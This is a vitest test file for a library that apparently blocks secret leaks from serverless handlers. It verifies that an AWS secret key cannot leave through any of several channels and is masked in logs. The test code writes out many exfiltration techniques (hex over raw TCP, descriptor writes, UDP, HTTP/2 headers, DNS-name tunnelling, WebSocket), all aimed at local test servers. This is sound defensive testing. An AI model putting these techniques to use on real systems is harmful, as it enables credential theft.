import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import { createServer as createHttp2 } from 'node:http2';
import { type AddressInfo, createServer as createTcp } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { builtPackage, tempFolder } from '../../testing/built.ts';
import { nodeBinaries } from '../../testing/nodes.ts';
import { runScenario, SECRET_KEY } from '../../testing/scenario.ts';

const { folder: dist } = builtPackage();
const folder = tempFolder();

/** All that reached any of the servers, in order. */
let received = '';
const take = (data: Buffer): void => {
  received += data.toString('latin1');
};
let http: Server;
let udp: Socket;
const http2 = createHttp2((request, response) => {
  take(Buffer.from(JSON.stringify(request.headers)));
  request.on('data', take).on('end', () => response.end('ok'));
});
const tcp = createTcp((socket) => socket.on('data', take).on('error', () => undefined));
const ports = { http: 0, udp: 0, http2: 0, tcp: 0 };

beforeAll(async () => {
  http = createServer((request, response) => {
    take(Buffer.from(`${request.url} ${JSON.stringify(request.rawHeaders)}`));
    request.on('data', take).on('end', () => response.end('ok'));
  });
  http.on('upgrade', (request, socket) => {
    const accept = new Uint8Array(
      Buffer.from(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`),
    );
    import('node:crypto').then(({ createHash }) => {
      const key = createHash('sha1').update(accept).digest('base64');
      socket.write(
        `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${key}\r\n\r\n`,
      );
      socket.on('data', (frame: Buffer) => {
        const mask = frame.subarray(2, 6);
        take(Buffer.from(frame.subarray(6).map((byte, i) => byte ^ mask[i & 3]!)));
        socket.write(Buffer.from([0x81, 2, 111, 107]));
      });
      socket.on('error', () => undefined);
    });
  });
  udp = createSocket('udp4').on('message', take);
  for (const server of [http, http2, tcp]) {
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
  }
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  ports.http = (http.address() as AddressInfo).port;
  ports.http2 = (http2.address() as AddressInfo).port;
  ports.tcp = (tcp.address() as AddressInfo).port;
  ports.udp = udp.address().port;
});
afterAll(() => {
  http.closeAllConnections();
  for (const server of [http, http2, tcp, udp]) server.close();
});
beforeEach(() => {
  received = '';
});

/** Ways out, as expressions of a promise; `secret` is what goes, `p` the ports. */
const WAYS: Record<string, string> = {
  'a body of fetch':
    "fetch('http://127.0.0.1:' + p.http, { method: 'POST', body: 'k=' + secret }).then((r) => r.text())",
  'a header of fetch': "fetch('http://127.0.0.1:' + p.http, { headers: { 'x-a': secret } }).then((r) => r.text())",
  'a query of http.get':
    "new Promise((ok, no) => http.get('http://127.0.0.1:' + p.http + '/?k=' + encodeURIComponent(secret), ok).on('error', no))",
  'base64 in a body, in two writes': `new Promise((ok, no) => {
    const text = Buffer.from('x' + secret).toString('base64');
    const r = http.request({ port: p.http, host: '127.0.0.1', method: 'POST' }, ok).on('error', no);
    r.write(text.slice(0, 30)); setTimeout(() => r.end(text.slice(30)), 20);
  })`,
  'hexadecimal by net': `new Promise((ok, no) => { const s = net.connect(p.tcp, '127.0.0.1', () => s.end(Buffer.from(secret).toString('hex'), ok)); s.on('error', no); })`,
  'an encoding of write': `new Promise((ok, no) => { const s = net.connect(p.tcp, '127.0.0.1', () => s.write(Buffer.from(secret).toString('hex'), 'hex', (e) => (e ? no(e) : (s.destroy(), ok())))); s.on('error', no); })`,
  'Writable.prototype.write.call': `new Promise((ok, no) => { const s = net.connect(p.tcp, '127.0.0.1', () => { require('stream').Writable.prototype.write.call(s, secret, (e) => (e ? no(e) : (s.destroy(), ok()))); }); s.on('error', no); })`,
  'a socket by descriptor': `new Promise((ok, no) => { const s = net.connect(p.tcp, '127.0.0.1', () => { try { fs.writeSync(s._handle.fd, secret); s.destroy(); ok(); } catch (e) { s.destroy(); no(e); } }); s.on('error', no); })`,
  'a datagram':
    "new Promise((ok, no) => { const s = dgram.createSocket('udp4'); s.send(['k=', secret], p.udp, '127.0.0.1', (e) => { s.close(); e ? no(e) : ok(); }); })",
  'a datagram of a connected socket':
    "new Promise((ok, no) => { const s = dgram.createSocket('udp4'); s.connect(p.udp, '127.0.0.1', () => s.send(Buffer.from(secret), (e) => { s.close(); e ? no(e) : ok(); })); })",
  'a body of HTTP/2': `new Promise((ok, no) => { const c = http2.connect('http://127.0.0.1:' + p.http2); c.on('error', no); const r = c.request({ ':method': 'POST' }); r.on('error', (e) => { c.destroy(); no(e); }); r.on('end', () => { c.close(); ok(); }); r.resume(); r.end(secret); })`,
  'a header of HTTP/2': `new Promise((ok, no) => { const c = http2.connect('http://127.0.0.1:' + p.http2); c.on('error', no); try { const r = c.request({ 'x-k': secret }); r.on('error', no); r.on('end', () => { c.close(); ok(); }); r.resume(); r.end(); } catch (e) { c.destroy(); no(e); } })`,
  'a name':
    "new Promise((ok, no) => dns.lookup(Buffer.from(secret).toString('hex').replace(/(.{40})/g, '$1.') + '.t.invalid', (e) => (e.code === 'BULKHEAD_BLOCKED' ? no(e) : ok())))",
  'a name of dns/promises':
    "dns.promises.resolveTxt(Buffer.from(secret).toString('hex').slice(0, 40) + '.t.invalid').catch((e) => { if (e.code === 'BULKHEAD_BLOCKED') throw e; })",
};

const CODE = `
const fs = require('fs'), http = require('http'), net = require('net'), dgram = require('dgram'), dns = require('dns'), http2 = require('http2');
const ways = [${Object.values(WAYS)
  .map((body) => `(secret, p) => ${body}`)
  .join(',\n')}];
if (typeof WebSocket === 'function') ways.push((secret, p) => new Promise((ok, no) => {
  const s = new WebSocket('ws://127.0.0.1:' + p.http);
  s.onopen = () => s.send(secret);
  s.onmessage = () => { s.close(); ok(); };
  s.onerror = () => no(Object.assign(new Error('closed'), { code: 'CLOSED' }));
  s.onclose = (e) => { if (!e.wasClean) no(Object.assign(new Error('closed'), { code: 'CLOSED' })); };
}));
exports.handler = async ({ p }) => {
  const results = [];
  for (const way of ways) {
    const late = new Promise((ok) => setTimeout(ok, 3000, 'late').unref());
    results.push(await Promise.race([way(process.env.AWS_SECRET_ACCESS_KEY, p).then(() => 'left', (e) => {
      while (e && e.code === undefined && e.cause) e = e.cause;
      return e.code;
    }), late]));
  }
  return results;
};`;

describe.each(nodeBinaries())('$name', ({ path: node, name }) => {
  const run = (code: string, events: unknown[], more = {}) =>
    runScenario({ node, dist, folder, form: 'cjs', code, events, ...more });

  it('the secret key leaves by none of the ways, and by all without us', async () => {
    const outcome = await run(CODE, [{ p: ports }]);
    const results = outcome.answers[0]?.result as string[];
    const names = [...Object.keys(WAYS), 'WebSocket'];
    const passed = results.flatMap((code, i) =>
      code === 'BULKHEAD_BLOCKED' || code === 'CLOSED' ? [] : `${names[i]}: ${code}`,
    );
    expect(passed, outcome.lines.join('\n') + outcome.stderr).toEqual([]);
    expect(outcome.exitCode).toBe(0);
    expect(outcome.faults).toEqual([]);
    expect(received).not.toContain(SECRET_KEY);
    expect(received).not.toContain(Buffer.from(SECRET_KEY).toString('hex'));
    const reported = outcome.attacks.filter((item) => item.rule === 'hook/credentials' && item.action === 'blocked');
    expect(reported.length).toBeGreaterThan(5);
    expect(outcome.lines.join('\n')).not.toContain(SECRET_KEY);

    const off = await run(CODE, [{ p: ports }], { env: { BULKHEAD_MODE: 'off' } });
    expect(new Set(off.answers[0]?.result as string[]), off.stderr).toEqual(new Set(['left']));
    expect(received.split(SECRET_KEY).length - 1).toBeGreaterThanOrEqual(name.includes('20') ? 9 : 10);
  });

  it('log lines are covered, each of the same length', async () => {
    const code = `exports.handler = async () => {
      console.log('key', process.env.AWS_SECRET_ACCESS_KEY, 'end');
      console.error(process.env);
      process.stdout.write(Buffer.from('b64 ' + Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('base64') + '\\n'));
      require('fs').writeSync(1, 'sync ' + process.env.AWS_SECRET_ACCESS_KEY + '\\n');
      console.log('honest ' + 'x'.repeat(40));
      return 'done';
    };`;
    const outcome = await run(code, [{}]);
    expect(outcome.answers[0]).toEqual({ result: 'done' });
    expect(outcome.output.filter((line) => !line.startsWith(' '))).toEqual([
      `key ${'*'.repeat(40)} end`,
      expect.stringMatching(/^b64 \*{5,}/),
      `sync ${'*'.repeat(40)}`,
      `honest ${'x'.repeat(40)}`,
    ]);
    expect(outcome.stderr).toContain(`AWS_SECRET_ACCESS_KEY: '${'*'.repeat(40)}'`);
    expect(outcome.stderr).not.toContain(SECRET_KEY);
    expect(outcome.attacks.map((item) => item.sink?.operation)).toContain('log');
  });

  it('declared secrets go only where the policy lets them', async () => {
    const code = `exports.handler = async ({ port }) => {
      try { return await (await fetch('http://127.0.0.1:' + port, { headers: { authorization: 'Bearer ' + process.env.API_KEY } })).text(); }
      catch (e) { return e.cause.code; }
    };`;
    const env = { API_KEY: 'pk_live_4eC39HqLyjWDarjtT1zdp7dc' };
    const rule = (allow: string) => ({
      options: `{ policy: { hooks: { credentials: { action: 'block', secrets: ['API_KEY'], allow: [${allow}] } } } }`,
      env,
    });
    const events = [{ port: ports.http }];
    const kept = await run(code, events, rule(''));
    expect(kept.answers[0]?.result, kept.lines.join('\n')).toBe('BULKHEAD_BLOCKED');
    expect(received).toBe('');
    expect((await run(code, events, rule(`'127.0.0.1:${ports.http}'`))).answers[0]?.result).toBe('ok');
    expect(received).toContain(env.API_KEY);
  });
});
